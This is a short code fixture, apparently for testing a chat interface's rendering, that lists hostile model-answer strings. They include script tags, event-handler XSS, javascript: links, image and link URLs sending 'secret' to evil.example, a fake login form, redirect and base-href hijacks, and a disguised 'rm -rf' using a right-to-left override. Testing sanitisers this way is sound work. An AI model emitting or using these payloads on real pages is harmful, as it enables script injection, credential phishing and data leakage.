// An answer that tries everything at once: markup that would run, images and links that would tell somebody, text that
// reads otherwise than it is. The emulator echoes it, so it reaches the page as any model's words do.
export const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=https://evil.example/a.png onerror=alert(1)>",
  "![a cat](https://evil.example/pixel.png?d=secret)",
  "[![badge](https://evil.example/badge.svg)](https://evil.example/click)",
  "[click](javascript:alert(1)) [data](data:text/html,x) [tab](java\tscript:alert(1)) [own](/session)",
  "[good.example](https://evil.example/?d=secret)",
  "<iframe src=https://evil.example></iframe><svg onload=alert(1)><style>@import 'https://evil.example/x.css'</style></svg>",
  "<form action=https://evil.example><input type=password><button>Log in</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
  "<link rel=preconnect href=https://evil.example><details open ontoggle=alert(1)>x</details>",
  '<p id=page name=location style="position:fixed;inset:0">over everything</p>',
  "`rm -rf \u202e gpj.exe`",
  '```"><img/src=https://evil.example/c.png/onerror=alert(1)>\ncode\n```',
].join("\n\n");
